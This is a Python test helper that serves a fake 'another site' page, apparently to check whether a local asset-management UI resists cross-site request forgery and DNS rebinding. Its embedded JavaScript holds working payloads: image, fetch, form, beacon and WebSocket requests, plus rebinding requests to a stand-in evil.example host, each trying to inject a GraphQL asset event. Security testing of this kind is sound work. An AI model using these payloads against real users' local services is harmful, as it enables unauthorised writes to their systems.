"""A page of another site, which tries from a visitor's browser to write an event into the UI of this machine.

Each way names an asset of its own, so that the event log tells which got in.
"""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

FOREIGN, REBOUND = "evil.example", "rebound.example"
RESOLVED = (f"--host-resolver-rules=MAP {FOREIGN} 127.0.0.1, MAP {REBOUND} 127.0.0.1",)
"""A switch of Chromium: both names lead to this machine, as a name server of the attacker could let them."""

WAYS = (
    "get-image", "get-fetch", "form", "post-text", "post-mentions-json", "post-json", "beacon", "websocket",
    "report-route", "report-route-form",
)  # fmt: skip
REBOUND_WAYS = ("rebound-get", "rebound-json")

_SCRIPT = """
const ui = "%(ui)s";
const mutation = (name) => `mutation { reportRunlessAssetEvents(eventParams: {
  eventType: ASSET_MATERIALIZATION, assetKey: {path: ["${name}"]}}) { __typename } }`;
const body = (name) => JSON.stringify({query: mutation(name)});
const asked = (name) => `${ui}/graphql?query=${encodeURIComponent(mutation(name))}`;
const post = (name, type, mode) =>
  fetch(`${ui}/graphql`, {method: "POST", mode, headers: {"Content-Type": type}, body: body(name)});
const submit = (action) => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {action, method: "post", target: frame.name, enctype: "text/plain"});
  document.body.append(form);
  frame.onload = done;
  form.submit();
});
const ways = {
  "get-image": (n) => new Promise((done) => {
    const image = new Image();
    image.onload = image.onerror = done;
    image.src = asked(n);
  }),
  "get-fetch": (n) => fetch(asked(n), {mode: "no-cors"}),
  "form": (n) => submit(asked(n)),
  "post-text": (n) => post(n, "text/plain", "no-cors"),
  "post-mentions-json": (n) => post(n, "text/plain; application/json", "no-cors"),
  "post-json": (n) => post(n, "application/json", "cors"),
  "beacon": (n) => navigator.sendBeacon(asked(n), "x"),
  "websocket": (n) => new Promise((done) => {
    const socket = new WebSocket(ui.replace("http", "ws") + "/graphql", "graphql-ws");
    socket.onopen = () => {
      document.title = "a websocket was opened";
      socket.send(JSON.stringify({type: "start", id: "1", payload: {query: mutation(n)}}));
      setTimeout(done, 500);
    };
    socket.onerror = done;
  }),
  "report-route": (n) => fetch(`${ui}/report_asset_materialization/${n}`, {method: "POST", mode: "no-cors"}),
  "report-route-form": (n) => submit(`${ui}/report_asset_materialization/${n}`),
  "rebound-get": (n) => fetch(asked(n)),
  "rebound-json": (n) => post(n, "application/json", "same-origin"),
};
window.attack = async (names) => {
  for (const name of names) {
    try { await Promise.race([ways[name](name), new Promise((r) => setTimeout(r, 3000))]); } catch {}
  }
  await new Promise((r) => setTimeout(r, 1000));
  return true;
};
"""


def script(ui: str) -> str:
    """Return what the page runs: `attack(ways)` tries each on the UI at an address."""
    return _SCRIPT % {"ui": ui}


@contextmanager
def foreign_site(ui: str) -> Iterator[str]:
    """Serve a page of another site that holds the script; yield its address."""
    frame = f"<iframe id=framed src='{ui}/'></iframe>"
    page = (
        f"<!doctype html><title>Another site</title><h1>Another site</h1>{frame}<script>{script(ui)}</script>"
    )

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Page) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://{FOREIGN}:{server.server_port}/"
        server.shutdown()
